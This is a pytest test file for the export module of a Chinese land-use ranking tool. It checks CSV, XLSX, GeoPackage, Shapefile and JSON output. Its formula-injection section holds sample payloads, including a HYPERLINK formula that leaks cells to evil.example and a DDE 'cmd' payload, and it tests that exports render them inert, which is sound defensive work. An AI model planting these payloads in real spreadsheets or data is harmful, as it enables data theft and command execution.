"""Tests for mujun.layers.export: CSV and XLSX with Chinese headers, GeoPackage with canonical names."""

from __future__ import annotations

import codecs
import contextlib
import csv
import sqlite3

import geopandas as gpd
import openpyxl
import pandas as pd
import pyogrio
import pytest
from conftest import xlsx_rows
from pyproj import CRS
from shapely.geometry import box

from mujun.geo.errors import InputError
from mujun.layers.export import chinese_headers, export_table

HEADERS = ["排名", "统一社会信用代码", "企业名称", "亩均税收(万元/亩)", "用地面积(亩)", "是否规上",
           "出让日期"]


def _ranking() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "rank": pd.array([1, 2, 3], dtype="Int64"),
            "credit_code": ["91330600MA2AAAAAA1", "91330600MA2BBBBBB2", "91330600MA2CCCCCC3"],
            "name": ["绍兴纺织有限公司", "柯桥印染厂", "浙江某某机械股份有限公司"],
            "tax_per_mu": [30.456, 12.5, None],
            "area_mu": [64.18, 20.0, 5.5],
            "above_scale": pd.array([True, False, None], dtype="boolean"),
            "transfer_date": pd.to_datetime(["2020-01-02", "2021-03-05", None]),
        }
    )


def _parcel_ranking() -> gpd.GeoDataFrame:
    x, y = 120.58, 30.0
    return gpd.GeoDataFrame(
        {
            "rank": pd.array([1, 2], dtype="Int64"),
            "parcel_id": ["330602001", "330602002"],
            "holder_name": ["绍兴纺织有限公司", "柯桥印染厂"],
            "area_mu": [64.18, 64.17],
            "tax_per_mu": [0.31, 0.16],
            "industrial": pd.array([True, None], dtype="boolean"),
        },
        geometry=[box(x, y, x + 0.002, y + 0.002), box(x + 0.003, y, x + 0.005, y + 0.002)],
        crs="EPSG:4490",
    )


# -- chinese_headers -----------------------------------------------------------------------
def test_chinese_headers():
    cols = ["rank", "credit_code", "tax_per_mu", "area_mu", "area_m2", "value_added", "unknown_col"]
    assert chinese_headers(cols) == ["排名", "统一社会信用代码", "亩均税收(万元/亩)", "用地面积(亩)",
                                     "用地面积(平方米)", "工业增加值(万元)", "unknown_col"]


def test_chinese_headers_overrides():
    assert chinese_headers(["name", "rank"], {"name": "园区名称"}) == ["园区名称", "排名"]


# -- CSV -----------------------------------------------------------------------------------
def test_csv_is_utf8_with_bom_and_chinese_headers(tmp_path):
    p = export_table(_ranking(), tmp_path / "排名.csv", headers={"name": "企业名称"})
    assert p == tmp_path / "排名.csv"
    raw = p.read_bytes()
    assert raw.startswith(codecs.BOM_UTF8)
    rows = list(csv.reader(raw.decode("utf-8-sig").splitlines()))
    assert rows[0] == HEADERS
    # 万元/亩 rounded to 2 decimals
    assert rows[1] == ["1", "91330600MA2AAAAAA1", "绍兴纺织有限公司", "30.46", "64.18", "是", "2020-01-02"]
    assert rows[2][5] == "否"
    assert rows[3][3] == "" and rows[3][5] == "" and rows[3][6] == ""
    assert len(rows) == 4


def test_csv_read_back_by_pandas(tmp_path):
    p = export_table(_ranking(), tmp_path / "r.csv", headers={"name": "企业名称"})
    back = pd.read_csv(p, encoding="utf-8-sig", dtype={"统一社会信用代码": str})
    assert back.columns.tolist()[:5] == ["排名", "统一社会信用代码", "企业名称", "亩均税收(万元/亩)",
                                         "用地面积(亩)"]
    assert back["统一社会信用代码"].tolist() == _ranking()["credit_code"].tolist()
    assert back["亩均税收(万元/亩)"].iloc[0] == pytest.approx(30.46)


def test_csv_geometry_column_dropped(tmp_path):
    p = export_table(_parcel_ranking(), tmp_path / "r.csv")
    header = p.read_text(encoding="utf-8-sig").splitlines()[0].split(",")
    assert header == ["排名", "宗地编号", "权利人", "用地面积(亩)", "亩均税收(万元/亩)", "工业用地"]


def test_export_replaces_existing_file(tmp_path):
    p = tmp_path / "r.csv"
    p.write_text("old")
    export_table(_ranking(), p)
    assert p.read_bytes().startswith(codecs.BOM_UTF8)
    assert [q.name for q in tmp_path.iterdir()] == ["r.csv"]  # no temporary left


# -- XLSX ----------------------------------------------------------------------------------
def test_xlsx_headers_values_and_formats(tmp_path):
    p = export_table(_ranking(), tmp_path / "排名.xlsx", headers={"name": "企业名称"}, sheet="企业排名",
                     notes=[("年度", "2023"), ("口径", "税收合计 ÷ 用地面积合计")])
    wb = openpyxl.load_workbook(p)
    assert wb.sheetnames == ["企业排名", "说明"]
    ws = wb["企业排名"]
    assert [c.value for c in ws[1]] == HEADERS
    assert all(c.font.bold for c in ws[1])
    assert ws.freeze_panes == "A2"
    assert [c.value for c in ws[2]][:6] == [1, "91330600MA2AAAAAA1", "绍兴纺织有限公司", 30.456, 64.18, "是"]
    assert ws["D2"].number_format == "#,##0.00"  # the value keeps its precision, shown with 2 decimals
    assert ws["E2"].number_format == "#,##0.00"
    assert ws["A2"].number_format == "0"  # a rank without thousands separator
    assert ws["D4"].value is None
    assert ws.max_row == 4
    notes = wb["说明"]
    assert [c.value for c in notes[1]] == ["项目", "内容"]
    assert [c.value for c in notes[3]] == ["口径", "税收合计 ÷ 用地面积合计"]


def test_xlsx_always_has_a_notes_sheet(tmp_path):
    wb = openpyxl.load_workbook(export_table(_ranking(), tmp_path / "r.xlsx", headers={"name": "园区名称"}))
    assert wb.sheetnames == ["排名", "说明"]
    assert wb.active["C1"].value == "园区名称"
    notes = [tuple(c.value for c in row) for row in wb["说明"].iter_rows()]
    assert notes[0] == ("项目", "内容")
    assert notes[1][0] == "导出时间"
    # every column: its header, canonical name and unit
    assert ("表头", "标准字段名；单位") in notes
    assert ("亩均税收(万元/亩)", "tax_per_mu；单位：万元/亩") in notes
    assert ("园区名称", "name") in notes


def test_xlsx_credit_codes_stay_text(tmp_path):
    frame = _ranking().assign(credit_code=["913306000000000001", "0123", "91330600MA2CCCCCC3"])
    ws = openpyxl.load_workbook(export_table(frame, tmp_path / "r.xlsx")).active
    assert [ws.cell(row=r, column=2).value for r in (2, 3, 4)] == ["913306000000000001", "0123",
                                                                    "91330600MA2CCCCCC3"]


# -- GeoPackage ----------------------------------------------------------------------------
def test_gpkg_keeps_canonical_names_and_geometry(tmp_path):
    p = export_table(_parcel_ranking(), tmp_path / "排名.gpkg")
    info = pyogrio.read_info(p)
    assert CRS.from_user_input(info["crs"]).to_epsg() == 4490
    back = pyogrio.read_dataframe(p)
    assert back.columns.tolist() == ["rank", "parcel_id", "holder_name", "area_mu", "tax_per_mu",
                                     "industrial", "geometry"]
    assert back["parcel_id"].tolist() == ["330602001", "330602002"]
    assert back["holder_name"].tolist() == ["绍兴纺织有限公司", "柯桥印染厂"]
    assert back["tax_per_mu"].tolist() == [0.31, 0.16]
    assert back.geometry.geom_equals(_parcel_ranking().geometry).all()
    with contextlib.closing(sqlite3.connect(p)) as con:
        assert con.execute("PRAGMA application_id").fetchone()[0] == 0x47504B47


def test_gpkg_attribute_table(tmp_path):
    p = export_table(_ranking(), tmp_path / "r.gpkg")
    back = pyogrio.read_dataframe(p, read_geometry=False)
    assert back.columns.tolist() == _ranking().columns.tolist()
    assert back["name"].tolist()[:2] == ["绍兴纺织有限公司", "柯桥印染厂"]


# -- refusals ------------------------------------------------------------------------------
@pytest.mark.parametrize("name", ["r.txt", "r.xls", "r.shp.zip", "r"])
def test_unsupported_suffix_refused(tmp_path, name):
    with pytest.raises(InputError, match=f"无法导出为 '{name}'.*.csv"):
        export_table(_ranking(), tmp_path / name)
    assert list(tmp_path.iterdir()) == []


def test_missing_folder_refused(tmp_path):
    with pytest.raises(InputError, match="导出文件夹 .*不存在"):
        export_table(_ranking(), tmp_path / "no" / "r.csv")


def test_unwritable_target_refused_and_nothing_left(tmp_path):
    target = tmp_path / "r.csv"
    target.mkdir()  # a folder in the way: the final move fails
    with pytest.raises(InputError, match="无法写入"):
        export_table(_ranking(), target)
    assert [q.name for q in tmp_path.iterdir()] == ["r.csv"]
    assert target.is_dir()


# -- formula injection ----------------------------------------------------------------------
#: Text a spreadsheet would run: hyperlinks that leak cells, DDE, and every formula lead.
HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A2,"点此查看")', "=cmd|' /C calc'!A0", "+1+1",
           "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def _hostile() -> pd.DataFrame:
    n = len(HOSTILE)
    return pd.DataFrame({
        "rank": pd.array(range(1, n + 2), dtype="Int64"),
        "name": [*HOSTILE, "绍兴纺织有限公司"],
        "tax_per_mu": [-3.5, *[1.25] * n],  # a negative number stays a number
        "area_mu": [10.0] * (n + 1),
    })


def _formula_cells(path) -> list[str]:
    """Coordinates of the formula cells of every sheet (openpyxl marks them 'f')."""
    book = openpyxl.load_workbook(path)
    try:
        return [f"{ws.title}!{c.coordinate}" for ws in book.worksheets for row in ws.iter_rows()
                for c in row if c.data_type == "f"]
    finally:
        book.close()


def test_formula_like():
    from mujun.layers.export import formula_like

    flags = formula_like(pd.Series([*HOSTILE, "绍兴", "a=b", None, pd.NA, 3.0], dtype=object))
    assert flags.tolist() == [True] * len(HOSTILE) + [False] * 5


def test_xlsx_writes_formula_text_as_text(tmp_path):
    p = export_table(_hostile(), tmp_path / "r.xlsx", notes=[("筛选", "=HYPERLINK(\"http://x\")")])
    assert _formula_cells(p) == []
    rows = xlsx_rows(p)
    # the text as typed (a carriage return may read back as a line feed, as the XML library
    # openpyxl uses — lxml or the standard library's — serialises it)
    assert [r[1].replace("\r", "\n") for r in rows[1:]] == [*(h.replace("\r", "\n") for h in HOSTILE), "绍兴纺织有限公司"]
    assert rows[1][2] == -3.5 and isinstance(rows[2][2], float)
    assert xlsx_rows(p, "说明")[1] == ("筛选", "=HYPERLINK(\"http://x\")")


def test_csv_prefixes_formula_text(tmp_path):
    p = export_table(_hostile(), tmp_path / "r.csv")
    with p.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert [r[1] for r in rows[1:]] == [*("'" + h for h in HOSTILE), "绍兴纺织有限公司"]
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for r in rows[1:] for cell in r[1:2])
    assert rows[1][2] == "-3.5"  # numbers are not prefixed


@pytest.fixture(scope="module")
def hostile_workspace(sample_workspace, tmp_path_factory):
    """The sample with hostile enterprise, holder and district names, evaluated for 2025."""
    import shutil

    from mujun.layers.workspace import Workspace
    from mujun.service import evaluate

    ws = Workspace(tmp_path_factory.mktemp("hostile") / "hostile.gpkg")
    shutil.copyfile(sample_workspace.path, ws.path)
    ent, parcels, districts = ws.read("enterprises"), ws.read("parcels"), ws.read("districts")
    ent["name"] = ent["name"].astype(object)
    ent.loc[ent.index[::3], "name"] = HOSTILE[0]
    parcels["holder_name"] = parcels["holder_name"].astype(object)
    parcels.loc[parcels.index[::2], "holder_name"] = HOSTILE[1]
    districts["name"] = [f"{HOSTILE[2]}{i}" for i in range(len(districts))]
    ws.write({"enterprises": ent, "parcels": parcels, "districts": districts})
    evaluate(ws, year=2025, progress=False)
    return ws


@pytest.mark.parametrize("level", ["enterprise", "parcel", "district"])
@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_rankings_of_hostile_names_are_inert(hostile_workspace, tmp_path, level, suffix):
    from mujun.service import export_ranking, ranking

    frame, year = ranking(hostile_workspace, level=level, by="tax_per_mu")
    p = export_ranking(frame, level, "tax_per_mu", year, tmp_path / f"r{suffix}", hostile_workspace)
    if suffix == ".xlsx":
        assert _formula_cells(p) == []
        texts = [str(v) for row in xlsx_rows(p) for v in row if v is not None]
        assert any(t.startswith(("=HYPERLINK", "=cmd", "+1+1")) for t in texts)  # kept as typed
    else:
        text = p.read_text(encoding="utf-8-sig")
        assert not any(line.split(",")[2:3] and line.split(",")[2].startswith(("=", "+", "@"))
                       for line in text.splitlines())
        assert "'=HYPERLINK" in text or "'=cmd" in text or "'+1+1" in text


def test_review_export_of_a_hostile_comment_is_inert(hostile_workspace, tmp_path):
    from mujun.layers.review import save_decision
    from mujun.service import export_review, review_of_year

    rows, year = review_of_year(hostile_workspace, 2025)
    pid = str(rows["parcel_id"].iloc[0])
    save_decision(hostile_workspace, pid, year, status="需现场核查", measure="", deadline="",
                  comment="=1+cmd|' /C calc'!A0", base_version=0, user="=rev")
    rows, year = review_of_year(hostile_workspace, 2025)
    p = export_review(rows, year, tmp_path / "审核.xlsx", hostile_workspace)
    assert _formula_cells(p) == []
    assert "=1+cmd|' /C calc'!A0" in [v for row in xlsx_rows(p) for v in row]
    c = export_review(rows, year, tmp_path / "审核.csv", hostile_workspace).read_text(encoding="utf-8-sig")
    assert "'=1+cmd|' /C calc'!A0" in c and ",=" not in c


# -- fitted columns, autofilter, percentages, rounding ----------------------------------------
REASON = "亩均税收 3.21 万元/亩 低于所在行业低效用地指导值 10.00 万元/亩，且容积率 0.45 低于 1.0；权利人为 D 类企业，需列入整治"


def _shares() -> pd.DataFrame:
    return pd.DataFrame({
        "rank": pd.array([1, 2], dtype="Int64"),
        "parcel_id": ["330602001", "330602002"],
        "reason": [REASON, "短"],
        "building_coefficient": [0.72436, 0.3],
        "improved_share": [0.5, None],  # not in the schema: a share by its name
        "area_m2": [1234.5678, 20.04],
        "tax_per_mu": [12.3456, -1.0],
        "emission_per_va": [0.000231456, 0.0001],
        "parcel_count": pd.array([1200, 3], dtype="Int64"),
    })


def test_xlsx_columns_fitted_to_content_with_a_cap(tmp_path):
    from mujun.layers.export import MAX_WIDTH

    assert len(REASON) > MAX_WIDTH / 2  # wider than the cap once CJK counts double
    ws = openpyxl.load_workbook(export_table(_shares(), tmp_path / "r.xlsx")).active
    width = {c: ws.column_dimensions[c].width for c in "ABCDEFGHI"}
    assert width["C"] == MAX_WIDTH  # 原因: capped
    assert width["B"] == len("330602001") + 2 or width["B"] == len("宗地编号") * 2 + 2
    assert width["A"] < 10  # a rank is narrow
    assert width["D"] == len("建筑系数(%)") + len("建筑系数") + 2  # the header is the widest: CJK counts two
    assert all(w <= MAX_WIDTH for w in width.values())


def test_xlsx_autofilter_over_the_data(tmp_path):
    wb = openpyxl.load_workbook(export_table(_ranking(), tmp_path / "r.xlsx"))
    assert wb.active.auto_filter.ref == "A1:G4"
    assert wb.active.freeze_panes == "A2"


def test_xlsx_shares_as_percentages_with_the_unit_in_the_header(tmp_path):
    p = export_table(_shares(), tmp_path / "r.xlsx", headers={"improved_share": "提档比例"})
    ws = openpyxl.load_workbook(p).active
    heads = [c.value for c in ws[1]]
    assert heads[3] == "建筑系数(%)" and heads[4] == "提档比例(%)"
    assert ws["D2"].value == pytest.approx(0.72436)  # the stored fraction, shown as 72.4%
    assert ws["D2"].number_format == "0.0%" and ws["E2"].number_format == "0.0%"
    assert ws["F2"].number_format == "#,##0.0"  # m²
    assert ws["H2"].number_format == "#,##0.000000"  # 吨/万元
    assert ws["I2"].number_format == "#,##0"  # a count
    notes = xlsx_rows(p, "说明")
    assert ("建筑系数(%)", "building_coefficient；单位：%（单元格存小数，按百分比显示）") in notes


def test_csv_values_rounded_by_unit(tmp_path):
    p = export_table(_shares(), tmp_path / "r.csv")
    rows = list(csv.reader(p.read_text(encoding="utf-8-sig").splitlines()))
    assert rows[0] == ["排名", "宗地编号", "原因", "建筑系数(%)", "improved_share(%)", "用地面积(平方米)",
                       "亩均税收(万元/亩)", "单位增加值排放(吨/万元)", "地块数(宗)"]
    assert rows[1][3:] == ["72.4", "50.0", "1234.6", "12.35", "0.000231", "1200"]
    assert rows[2][3:] == ["30.0", "", "20.0", "-1.0", "0.0001", "3"]


def test_decimals_table_covers_every_schema_unit():
    from mujun.layers.export import DECIMALS
    from mujun.layers.schema import FIELDS_BY_NAME

    units = {f.unit for f in FIELDS_BY_NAME.values() if f.dtype == "float"}
    assert units <= set(DECIMALS), units - set(DECIMALS)


# -- 说明 on every export --------------------------------------------------------------------
def _service_exports(ws, folder):
    from mujun import service

    frame, year = service.ranking(ws, "parcel", "tax_per_mu", top=50)
    yield "ranking", service.export_ranking(frame, "parcel", "tax_per_mu", year, folder / "排名.xlsx", ws)
    flagged, year = service.flags(ws)
    yield "flags", service.export_flags(flagged, year, folder / "flags.xlsx", ws)
    rows, year = service.review_of_year(ws)
    yield "review", service.export_review(rows, year, folder / "审核.xlsx", ws)
    yield "measures", service.export_measures(service.measures(ws), folder / "措施.xlsx", ws)
    firms, summary = service.remediation(ws)
    yield "remediation", service.export_remediation(summary, folder / "整治.xlsx", ws)
    res, year, _ = service.standard_land_set(ws, "柯桥区", "17")
    yield "standard_land", service.export_standard_land(res, year, folder / "标准地.xlsx", ws)


def test_every_service_export_has_a_notes_sheet_naming_the_sample(sample_workspace, tmp_path):
    seen = []
    for what, p in _service_exports(sample_workspace, tmp_path):
        book = openpyxl.load_workbook(p)
        assert book.sheetnames[-1] == "说明", what
        notes = {r[0]: r[1] for r in book["说明"].iter_rows(values_only=True) if r[0]}
        first = book.worksheets[0]
        assert first.auto_filter.ref is not None and first.auto_filter.ref.startswith("A1:"), what
        assert notes["数据"].startswith("示例数据（合成"), what
        assert notes["工作空间"] == str(sample_workspace.path), what
        assert "导出时间" in notes and "内容" in notes, what
        seen.append(what)
    assert seen == ["ranking", "flags", "review", "measures", "remediation", "standard_land"]


def test_flags_export_names_its_columns(sample_workspace, tmp_path):
    from mujun import service

    flagged, year = service.flags(sample_workspace, kind="idle")
    p = service.export_flags(flagged, year, tmp_path / "flags.xlsx", sample_workspace, kind="idle")
    rows = xlsx_rows(p, "标记地块")
    assert rows[0][:4] == ("宗地编号", "标记类型", "规则", "原因")
    assert len(rows) == len(flagged) + 1


# -- Shapefile ---------------------------------------------------------------------------------
def _long_names() -> gpd.GeoDataFrame:
    frame = _parcel_ranking()
    return frame.assign(value_added_per_mu=[120.456, 8.0], building_coefficient=[0.7243, None],
                        flag_reasons=["闲置：约定开工满一年未开工（𠮷）", None],
                        holder_code=["91330600MA2AAAAAA1", "91330600MA2BBBBBB2"])


def test_shapefile_gbk_short_names_and_crosswalk(tmp_path):
    from mujun.layers.export import short_names

    p = export_table(_long_names(), tmp_path / "地块排名.shp")
    names = sorted(q.name for q in tmp_path.iterdir())
    assert names == ["地块排名.cpg", "地块排名.dbf", "地块排名.prj", "地块排名.shp", "地块排名.shx",
                     "地块排名_字段说明.csv"]
    assert (tmp_path / "地块排名.cpg").read_text() == "GBK"
    back = pyogrio.read_dataframe(p, encoding="GBK")
    short = short_names(list(_long_names().columns.drop("geometry")))
    assert back.columns.tolist() == [*short.values(), "geometry"]
    assert all(len(n.encode("gbk")) <= 10 for n in short.values())
    assert len({n.lower() for n in short.values()}) == len(short)
    assert back[short["holder_name"]].tolist() == ["绍兴纺织有限公司", "柯桥印染厂"]
    assert back[short["flag_reasons"]].iloc[0] == "闲置：约定开工满一年未开工（?）"  # no GBK character for 𠮷
    assert back[short["value_added_per_mu"]].tolist() == [120.46, 8.0]
    assert back[short["building_coefficient"]].iloc[0] == pytest.approx(72.4)  # a percentage, as in CSV
    assert back[short["industrial"]].iloc[0] == "是" and pd.isna(back[short["industrial"]].iloc[1])
    assert back.crs.to_epsg() == 4549  # the Gauss-Krüger zone of the parcels, not degrees
    assert back.geometry.area.iloc[0] == pytest.approx(_parcel_ranking().to_crs(4549).area.iloc[0], rel=1e-6)
    # the raw DBF bytes are GBK, and its header says code page 936 for readers that ignore .cpg
    dbf = (tmp_path / "地块排名.dbf").read_bytes()
    assert "绍兴纺织有限公司".encode("gbk") in dbf and dbf[29] == 0x4D
    (tmp_path / "地块排名.cpg").unlink()
    assert pyogrio.read_dataframe(p)[short["holder_name"]].tolist() == ["绍兴纺织有限公司", "柯桥印染厂"]
    crosswalk = pd.read_csv(tmp_path / "地块排名_字段说明.csv", encoding="utf-8-sig", keep_default_na=False)
    assert crosswalk.columns.tolist() == ["字段", "名称", "单位", "标准字段名"]
    row = crosswalk.set_index("标准字段名").loc["value_added_per_mu"]
    assert (row["字段"], row["名称"], row["单位"]) == (short["value_added_per_mu"], "亩均增加值(万元/亩)", "万元/亩")
    assert crosswalk.set_index("标准字段名").loc["building_coefficient", "单位"] == "%"


def test_short_names_are_stable_and_unique():
    from mujun.layers.export import short_names
    from mujun.layers.schema import FIELDS_BY_NAME

    every = short_names(list(FIELDS_BY_NAME))
    assert len({n.lower() for n in every.values()}) == len(every)
    assert all(len(n) <= 10 and n.isascii() for n in every.values())
    # a column's short name does not depend on the others exported with it
    assert short_names(["value_added_per_mu"]) == {"value_added_per_mu": every["value_added_per_mu"]}
    assert every["tax_per_mu"] == "tax_per_mu"


def test_shapefile_of_a_table_without_geometry_refused(tmp_path):
    with pytest.raises(InputError, match="没有图形，无法导出为 Shapefile.*.xlsx 或 .csv"):
        export_table(_ranking(), tmp_path / "r.shp")
    assert list(tmp_path.iterdir()) == []


def test_shapefile_replaced_all_together_or_not_at_all(tmp_path, monkeypatch):
    import os

    from mujun.layers import export

    p = tmp_path / "r.shp"
    export_table(_long_names(), p)
    before = {q.name: q.read_bytes() for q in tmp_path.iterdir()}
    real = os.replace

    def failing(src, dst):  # the .prj of the new export cannot be moved into place
        if os.path.basename(src) == "r.prj" and ".tmp" in str(src):
            raise PermissionError(13, "Permission denied")
        return real(src, dst)

    monkeypatch.setattr(export.os, "replace", failing)
    with pytest.raises(InputError, match="无法写入"):
        export_table(_long_names().head(1), p)
    monkeypatch.setattr(export.os, "replace", real)
    assert {q.name: q.read_bytes() for q in tmp_path.iterdir()} == before  # the earlier export, whole
    export_table(_long_names().head(1), p)
    assert len(pyogrio.read_dataframe(p, encoding="GBK")) == 1


# -- JSON ----------------------------------------------------------------------------------
def test_json_document_numbers_nulls_and_fields():
    import json

    from mujun.layers.export import json_document

    doc = json.loads(json_document(_shares(), headers={"improved_share": "提档比例"}, year=2025))
    assert doc["year"] == 2025 and doc["count"] == 2
    assert doc["fields"]["tax_per_mu"] == {"label": "亩均税收", "unit": "万元/亩"}
    assert doc["fields"]["improved_share"] == {"label": "提档比例", "unit": "比例"}
    assert doc["rows"][0]["building_coefficient"] == 0.72436 and doc["rows"][1]["improved_share"] is None
    assert doc["rows"][0]["parcel_count"] == 1200 and doc["rows"][0]["reason"] == REASON
